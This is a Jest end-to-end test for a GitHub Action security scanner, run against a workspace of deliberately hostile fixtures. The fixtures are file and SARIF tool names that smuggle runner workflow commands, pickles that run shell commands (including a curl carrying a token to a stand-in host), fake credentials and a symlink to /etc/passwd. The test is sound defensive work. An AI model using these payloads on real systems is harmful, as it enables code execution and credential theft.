/**
 * The acceptance test of issue 12: the BUNDLED action (dist/index.js), run as the runner runs it
 * (INPUT_* and GITHUB_* variables, the GitHub API double for check runs and the PR comment), over a
 * workspace holding every hostile case found by the outside attack:
 *
 * - files whose names hold U+2028, U+2029, CR and a workflow command (`x\r::error ...\r.py`,
 *   `\r::stop-commands::t\r.py`, and one too large to read, so that an error summary printed to
 *   the log ends with its name): each is scanned, and no command the action did not mean to send
 *   reaches the runner (stdout and stderr parsed as the runner does, stop-commands honoured);
 * - a SARIF file whose tool name holds `\r::stop-commands::...` (the sarif gate's summary names it);
 * - secrets quoted by other gates: an OpenAI key (64/64 shape) assigned to PASSWORD, a GitHub
 *   token in a pickle's call arguments (the models gate quotes them), a base64-encoded .env: no found
 *   secret appears in report.json, the SARIF, the summary, the log (other than ::add-mask::), the
 *   check runs or the PR comment;
 * - a symlink `src/x.py -> /etc/passwd`: reported as a finding, its content never quoted.
 */
import { afterAll, beforeAll, describe, expect, it } from '@jest/globals'
import { execFileSync } from 'node:child_process'
import { existsSync, mkdirSync, mkdtempSync, readFileSync, symlinkSync, writeFileSync } from 'node:fs'
import os from 'node:os'
import path from 'node:path'
import { DIST, runAction } from '../support/action.js'
import { GitHubApiDouble } from '../support/github-api-double.js'
import { HEAD_SHA, pullRequestEvent, runActionAsync } from '../support/pr-action.js'
import { haveBandit } from '../support/py-workspace.js'
import { runnerCommands } from '../support/runner-stdout.js'

const ready = haveBandit && existsSync(DIST)
const d = ready ? describe : describe.skip
if (!ready) console.warn(`hostile e2e skipped: ${haveBandit ? '' : 'bandit not on PATH; '}${existsSync(DIST) ? '' : 'dist/index.js missing (npm run bundle)'}`)

/** Fake keys with real shapes, built at run time (none is a real credential). */
const fill = (n: number, alphabet = 'FAKEdemo0notReal9') => Array.from({ length: n }, (_, i) => alphabet[(i * 7 + n) % alphabet.length]).join('')
const OPENAI = `sk-proj-${fill(64)}T3BlbkFJ${fill(64)}`
const GH_TOKEN = `ghp_${fill(36, 'FAKEghTokenDemo0123456789')}`
const ENV_KEY = `sk-proj-${fill(64, 'envFAKEdemo42')}T3BlbkFJ${fill(64, 'envFAKEdemo42')}`
const ENV_B64 = Buffer.from(`OPENAI_API_KEY=${ENV_KEY}\nDEBUG=1\n`).toString('base64')

const HOSTILE = {
  pickle: 'models/w\u2028eights.pkl',
  loader: 'src/load\u2029er.py',
  crCommand: 'src/x\r::error file=a.py::pwn\r.py',
  stop: 'src/\r::stop-commands::t0k3n\r.py',
  c1: 'src/\u009b31mred.py',
  /** Too large for the code gate's rules: an error whose summary line ends in this name. */
  big: 'src/big\r::error::injected\r::stop-commands::zz\r.py'
}

function git(dir: string, ...args: string[]): void {
  execFileSync('git', ['-c', 'user.email=t@example.com', '-c', 'user.name=t', '-c', 'commit.gpgsign=false', ...args], { cwd: dir })
}

function workspace(): string {
  const ws = mkdtempSync(path.join(os.tmpdir(), 'asg-hostile-'))
  const put = (rel: string, text: string | Buffer) => {
    mkdirSync(path.dirname(path.join(ws, rel)), { recursive: true })
    writeFileSync(path.join(ws, rel), text)
  }
  put('.github/ai-secure-gates.yml', 'version: 1\ngates:\n  code: {}\n  secrets: { pr-commits: false }\n  models: { paths: [models] }\n  sarif: { files: [scan.sarif, "reports/*.sarif"] }\n')
  // names that are not UTF-8 cannot be handed to a gate as text: each gate that would scan them says so
  for (const dir of ['reports', 'models']) mkdirSync(path.join(ws, dir), { recursive: true })
  writeFileSync(Buffer.concat([Buffer.from(path.join(ws, 'models', 'w')), Buffer.from([0xff, 0xfe]), Buffer.from('.pkl')]), Buffer.from('cposix\nsystem\n(S\'id\'\ntR.', 'latin1'))
  writeFileSync(Buffer.concat([Buffer.from(path.join(ws, 'reports', 'r')), Buffer.from([0xe9]), Buffer.from('.sarif')]), '{}')
  // a SARIF whose tool name carries commands: the sarif gate's summary line names the tool
  put('scan.sarif', JSON.stringify({ version: '2.1.0', runs: [{ tool: { driver: { name: 'lint\r::stop-commands::s4rif\r::error::from-sarif' } }, results: [] }] }))
  // a protocol-0 pickle that runs a shell command, whose argument carries a token
  put(HOSTILE.pickle, Buffer.from(`cposix\nsystem\n(S'curl -H "Authorization: token ${GH_TOKEN}" https://x.example'\ntR.`, 'latin1'))
  put(HOSTILE.loader, 'import torch\n\n\ndef load(path):\n    return torch.load(path)\n')
  put(HOSTILE.crCommand, 'import pickle\n\n\ndef f(data):\n    return pickle.loads(data)\n')
  put(HOSTILE.stop, 'import pickle\n\n\ndef g(data):\n    return pickle.loads(data)\n')
  put(HOSTILE.c1, 'import pickle\n\n\ndef h(data):\n    return pickle.loads(data)\n')
  put(HOSTILE.big, '# padding\n'.repeat(600_000))
  put('src/creds.py', `PASSWORD = "${OPENAI}"\n`)
  put('deploy/env.yml', `env_b64: ${ENV_B64}\n`)
  symlinkSync('/etc/passwd', path.join(ws, 'src', 'x.py'))
  git(ws, 'init', '-q', '-b', 'main')
  git(ws, 'add', '-A')
  git(ws, 'commit', '-q', '-m', 'hostile')
  return ws
}

/** Workflow commands the action meant to send: whole lines of its output that start with `::`. */
function intended(out: string): string[] {
  return out.split('\n').filter((l) => l.startsWith('::'))
}

d('the bundled action against hostile input (issue 12 acceptance)', () => {
  let api: GitHubApiDouble
  beforeAll(async () => {
    api = await GitHubApiDouble.start({ knownShas: [HEAD_SHA] })
  })
  afterAll(async () => {
    await api.close()
  })

  it('sends no command it did not mean to, scans every hostile name, and leaks no secret anywhere', async () => {
    const ws = workspace()
    const run = await runActionAsync({ workspace: ws, apiUrl: api.url, eventName: 'pull_request', event: pullRequestEvent(), inputs: { 'pr-comment': 'true' } })
    expect(api.problems()).toEqual([])

    // 1. The runner's view of stdout and stderr: exactly the commands the action wrote, none hidden behind CR, spaces or U+2028.
    for (const out of [run.stdout, run.stderr]) {
      const seen = runnerCommands(out)
      expect(seen.map((c) => c.line)).toEqual(intended(out))
      expect(seen.map((c) => c.name)).not.toContain('stop-commands')
      for (const c of seen) expect(['add-mask', 'debug', 'error', 'warning', 'notice', 'group', 'endgroup']).toContain(c.name)
    }
    // the check-run annotations carry the files' real names
    const annotated = [...api.checkRuns.values()].flatMap((r) => r.annotations.map((a: any) => a.path))
    expect(annotated).toEqual(expect.arrayContaining([HOSTILE.crCommand, HOSTILE.stop, HOSTILE.loader, HOSTILE.pickle]))

    // the code gate could not read one file (too large): an error, whose summary names it, escaped
    expect(run.outputs.status).toBe('error')
    expect(run.stdout).toMatch(/✖ code: error \(src\/big%0D:%3Aerror:%3Ainjected%0D:%3Astop-commands:%3Azz%0D\.py is \d+ bytes/)

    // 2. Every hostile-named file was scanned.
    const report = JSON.parse(readFileSync(run.outputs.report, 'utf8'))
    const gate = (id: string) => report.gates.find((g: any) => g.id === id)
    const targets = (id: string) => new Set(gate(id).checks.map((c: any) => c.target))
    expect(targets('models').has(HOSTILE.pickle)).toBe(true)
    expect(gate('models').findings.some((f: any) => f.location.path === HOSTILE.pickle && f.severity === 'critical')).toBe(true)
    for (const f of [HOSTILE.loader, HOSTILE.crCommand, HOSTILE.stop, HOSTILE.c1]) {
      expect(targets('code').has(f)).toBe(true)
      expect(gate('code').findings.some((x: any) => x.location.path === f)).toBe(true)
    }

    // names that are not UTF-8: not scanned, and said (an error naming the bytes), never a silent pass
    for (const [id, name] of [['models', 'models/w\\xff\\xfe.pkl'], ['sarif', 'reports/r\\xe9.sarif']]) {
      expect([id, gate(id).status, gate(id).checks.find((c: any) => c.target === name)?.outcome]).toEqual([id, 'error', 'error'])
    }
    // the code gate scans Python and notebooks only: a .pkl it cannot name is not its error
    expect(gate('code').checks.some((c: any) => c.target === 'models/w\\xff\\xfe.pkl')).toBe(false)

    // 3. The symlink out of the workspace is a finding; /etc/passwd is never quoted.
    expect(gate('code').findings.some((f: any) => f.ruleId === 'workspace/symlink-outside' && f.location.path === 'src/x.py')).toBe(true)

    // 4. No found secret anywhere but ::add-mask::.
    const sarif = readFileSync(run.outputs.sarif, 'utf8')
    const summaryFile = readFileSync(run.outputs.summary, 'utf8')
    const bodies = JSON.stringify(api.calls.map((c) => c.body))
    const log = [run.stdout, run.stderr].join('\n').split(/\r\n|\r|\n/).filter((l) => !l.trimStart().startsWith('::add-mask::')).join('\n')
    const places = { 'report.json': JSON.stringify(report), sarif, summary: run.summary, summaryFile, 'check runs and PR comment': bodies, log }
    for (const secret of [OPENAI, GH_TOKEN, ENV_B64, ENV_KEY]) {
      for (const [where, text] of Object.entries(places)) {
        expect({ where, leaked: text.includes(secret) }).toEqual({ where, leaked: false })
      }
    }
    for (const text of Object.values(places)) expect(text).not.toMatch(/root:x:0:0/)
    // the secrets gate found them, and the runner was told to mask them
    expect(gate('secrets').findings.length).toBeGreaterThanOrEqual(2)
    expect(run.stdout).toContain(`::add-mask::${OPENAI}`)
    // bandit's B105 quoted the key: still reported, masked
    // the pickle's call arguments quoted the token (models gate): still reported, masked
    expect(JSON.stringify(gate('models').findings)).toContain('ghp_****')
    // the PR comment and check runs were posted (so the absence above means something)
    expect(api.comments.size).toBe(1)
    expect(api.checkRuns.size).toBeGreaterThan(0)
  }, 240_000)

  it('refuses a working-directory that leads out of GITHUB_WORKSPACE (directly or through a symlink)', () => {
    const ws = mkdtempSync(path.join(os.tmpdir(), 'asg-wd-'))
    symlinkSync(os.tmpdir(), path.join(ws, 'out'))
    for (const wd of ['../..', 'out']) {
      const run = runAction({ workspace: ws, inputs: { 'working-directory': wd, gates: 'secrets' } })
      expect(run.outputs.status).toBe('error')
      expect(run.summary).toMatch(/outside GITHUB_WORKSPACE/)
    }
  }, 60_000)
})
